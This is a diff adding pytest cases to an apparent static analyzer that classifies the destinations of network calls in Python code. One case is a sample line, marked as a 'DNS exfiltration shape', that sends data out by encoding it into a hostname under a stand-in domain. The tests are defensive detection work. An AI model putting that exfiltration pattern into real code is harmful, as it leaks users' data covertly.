@@ -251,3 +251,19 @@ def test_each_source_into_a_body(expr, sources):
             "import urllib.request\n"
             f"def f(name):\n    urllib.request.urlopen('https://x.example.com/', data={expr})\n")
     assert one(run(text), "urllib.request.urlopen", 4).data_sources == sources
+
+
+@pytest.mark.parametrize("host, note", [
+    ("f'{label}.collect.example'", "host built from data"),        # DNS exfiltration shape
+    ("'api.' + region", ""),                                        # a fixed prefix: not "built from data"
+])
+def test_host_built_from_data_means_a_fixed_domain_under_a_made_up_name(host, note):
+    text = f"import socket\ndef f(label, region):\n    socket.gethostbyname({host})\n"
+    [d] = one(run(text), "socket.gethostbyname", 3).destinations
+    assert (d.known, d.note) == ("partial", note)
+
+
+def test_url_whose_scheme_and_host_are_dynamic():
+    text = "import urllib.request\ndef f(base):\n    urllib.request.urlopen(base + '?:action=list')\n"
+    [d] = one(run(text), "urllib.request.urlopen", 3).destinations
+    assert (d.text, d.known, d.host, d.classes, d.note) == ("<dynamic>?:action=list", "partial", "", ("dynamic-host",), "")
